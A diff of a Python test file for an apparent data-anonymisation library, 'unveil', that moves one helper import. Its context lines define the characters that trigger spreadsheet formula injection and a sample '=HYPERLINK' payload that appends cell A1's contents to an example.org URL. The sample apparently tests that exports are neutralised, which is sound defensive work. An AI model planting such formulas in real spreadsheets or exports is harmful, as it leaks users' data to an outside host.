@@ -14,13 +14,13 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 import unveil
+from helpers import limited
 from unveil import mechanisms
 from unveil.cli import run
 from unveil.errors import ArgumentError, DuplicateColumnError
 from unveil.models import KAnonymity
 from unveil.report import write
 from unveil.sources.spreadsheets import HarmlessTexts, harmless
-from unveil.sources.streaming import limited
 
 SIGNS = "=+-@\t\r"
 FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
